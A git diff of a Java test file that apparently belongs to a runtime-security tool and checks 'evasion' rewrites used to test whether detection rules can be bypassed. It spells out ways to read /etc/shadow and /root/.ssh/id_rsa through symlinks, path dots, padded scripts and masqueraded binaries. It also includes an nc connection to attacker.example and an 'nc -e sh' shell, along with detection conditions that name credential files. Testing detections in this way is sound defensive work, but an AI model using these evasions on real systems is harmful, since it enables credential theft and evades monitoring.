@@ -3,14 +3,19 @@ package io.kguard.internal.tool.evasion;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.kguard.internal.condition.syntax.ConditionParser;
 import io.kguard.scenario.Scenario;
 import io.kguard.scenario.ScenarioReader;
 import java.util.Arrays;
 import java.util.EnumSet;
 import java.util.List;
+import java.util.Optional;
 import java.util.Set;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 /** Which commands an evasion applies to, and what becomes of them. */
 class EvasionTest {
@@ -20,6 +25,10 @@ class EvasionTest {
             Evasion.PROC_ROOT,
             Evasion.SYMBOLIC_LINK,
             Evasion.HARD_LINK,
+            Evasion.FOLDER_LINK,
+            Evasion.LINK_AND_DOTS,
+            Evasion.BIND_MOUNT,
+            Evasion.BUILTIN,
             Evasion.INHERITED,
             Evasion.OPEN,
             Evasion.OPENAT,
@@ -34,22 +43,74 @@ class EvasionTest {
         assertThat(words(Evasion.PROC_ROOT, cat)).containsExactly("cat", "/proc/self/root/etc/shadow");
         assertThat(words(Evasion.OPENAT2, cat))
                 .containsExactly("/usr/bin/kguard-actor", "read-by", "openat2", "/etc/shadow");
-        Rewritten link = Evasion.SYMBOLIC_LINK.rewrite(cat).orElseThrow();
+        Rewritten link = rewrite(Evasion.SYMBOLIC_LINK, cat).orElseThrow();
         assertThat(link.preparation())
                 .containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes.txt", "/etc/shadow"));
         assertThat(link.command()).isEqualTo(command("cat", "/tmp/notes.txt"));
     }
 
     @Test
+    void aFolderHasOtherNames() {
+        CommandLine key = command("cat", "/root/.ssh/id_rsa");
+        Rewritten link = rewrite(Evasion.FOLDER_LINK, key).orElseThrow();
+        assertThat(link.preparation()).containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes", "/root/.ssh"));
+        assertThat(link.command()).isEqualTo(command("cat", "/tmp/notes/id_rsa"));
+        assertThat(words(Evasion.LINK_AND_DOTS, key)).containsExactly("cat", "/tmp/notes/../.ssh/id_rsa");
+        assertThat(rewrite(Evasion.LINK_AND_DOTS, command("cat", "/file"))).isEmpty();
+        assertThat(words(Evasion.BUILTIN, key)).startsWith("bash", "-c").endsWith("/root/.ssh/id_rsa");
+        assertThat(rewrite(Evasion.BUILTIN, command("cat", "-n", "/etc/shadow")))
+                .isEmpty();
+    }
+
+    @Test
+    void aScriptHasManyWordsBefore() {
+        String padded = words(Evasion.PADDED, command("sh", "-c", "id", "x")).get(2);
+        assertThat(padded).startsWith(": xxx").endsWith("; id").hasSizeGreaterThan(4096);
+        assertThat(rewrite(Evasion.PADDED, command("cat", "-c", "id"))).isEmpty();
+        assertThat(rewrite(Evasion.PADDED, command("sh", "-c"))).isEmpty();
+    }
+
+    @Test
+    void aNameThatTheRuleLetsThroughIsThatOfTheProgramOrOfItsParent() {
+        Rewritten program =
+                rewrite(Evasion.ALLOWED_PROGRAM, command("cat", "/etc/shadow")).orElseThrow();
+        assertThat(program.command()).isEqualTo(command("/tmp/update/runc", "/etc/shadow"));
+        assertThat(words(Evasion.ALLOWED_PARENT, command("cat", "/etc/shadow")))
+                .containsExactly("/tmp/update/runc", "-c", "\"$0\" \"$@\"; exit $?", "cat", "/etc/shadow");
+        assertThat(rewrite(Evasion.ALLOWED_PROGRAM, command("/bin/runc", "list")))
+                .isEmpty();
+        assertThat(new Way(Evasion.ALLOWED_PARENT, "Run_C.1").id()).isEqualTo("allowed-parent-run-c-1");
+    }
+
+    /** Each of these names alone makes the condition false. */
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+            fd.name = /etc/shadow and not proc.name in (cron, systemd)                          | cron systemd |
+            fd.name = /etc/shadow and proc.name != sshd                                         | sshd         |
+            fd.name = /etc/shadow and not (proc.name = a or proc.pname in (b, c) or user.uid=0) | a            | b c
+            fd.name = /etc/shadow and not (proc.name = a and user.uid = 0)                      |              |
+            not proc.name in (a, b) or not proc.name in (b, c)                                  | b            |
+            not (not (not proc.pname = a))                                                      |              | a
+            proc.name = cat                                                                     |              |
+            not proc.name in ("a name/of a path", one, two, three)                              | one two      |
+            """)
+    void namesAreThoseThatARuleLetsThrough(String condition, @Nullable String programs, @Nullable String parents) {
+        LetThrough names = LetThrough.of(List.of(ConditionParser.parse(condition)));
+
+        assertThat(String.join(" ", names.programs())).isEqualTo(programs == null ? "" : programs);
+        assertThat(String.join(" ", names.parents())).isEqualTo(parents == null ? "" : parents);
+    }
+
+    @Test
     void aShellsScriptHasNoFile() {
         CommandLine script = command("sh", "-c", "cat /etc/shadow", "/etc/shadow");
         assertThat(Arrays.stream(Evasion.values()).filter(OF_FILES::contains))
-                .allSatisfy(evasion -> assertThat(evasion.rewrite(script)).isEmpty());
+                .allSatisfy(evasion -> assertThat(rewrite(evasion, script)).isEmpty());
     }
 
     @Test
     void onlyReadersTakeADescriptor() {
-        assertThat(Evasion.INHERITED.rewrite(command("rm", "/etc/shadow"))).isEmpty();
+        assertThat(rewrite(Evasion.INHERITED, command("rm", "/etc/shadow"))).isEmpty();
         assertThat(words(Evasion.INHERITED, command("grep", "root", "/etc/shadow")))
                 .containsExactly("sh", "-c", "exec \"$@\" <\"$0\"", "/etc/shadow", "grep", "root");
     }
@@ -59,7 +120,7 @@ class EvasionTest {
         CommandLine connects = command("/usr/lib/kguard/nc", "connect", "attacker.example", "443");
         assertThat(words(Evasion.MAPPED_ADDRESS, connects))
                 .containsExactly("/usr/lib/kguard/nc", "connect6", "attacker.example", "443");
-        assertThat(Evasion.MAPPED_ADDRESS.rewrite(command("nc", "connect", "a", "443")))
+        assertThat(rewrite(Evasion.MAPPED_ADDRESS, command("nc", "connect", "a", "443")))
                 .isEmpty();
         assertThat(words(Evasion.OPEN, command("/usr/bin/kguard-actor", "read", "/etc/shadow")))
                 .containsExactly("/usr/bin/kguard-actor", "read-by", "open", "/etc/shadow");
@@ -67,7 +128,7 @@ class EvasionTest {
 
     @Test
     void aProgramRunsUnderOtherNames() {
-        Rewritten renamed = Evasion.RENAMED.rewrite(command("nc", "-e", "sh")).orElseThrow();
+        Rewritten renamed = rewrite(Evasion.RENAMED, command("nc", "-e", "sh")).orElseThrow();
         assertThat(renamed.command()).isEqualTo(command("/tmp/update/helper", "-e", "sh"));
         assertThat(renamed.preparation().get(0).words()).endsWith("nc").hasSize(4);
     }
@@ -114,7 +175,11 @@ class EvasionTest {
     }
 
     private static List<String> words(Evasion evasion, CommandLine command) {
-        return evasion.rewrite(command).orElseThrow().command().words();
+        return rewrite(evasion, command).orElseThrow().command().words();
+    }
+
+    private static Optional<Rewritten> rewrite(Evasion evasion, CommandLine command) {
+        return evasion.rewrite(command, "runc");
     }
 
     private static CommandLine command(String... words) {
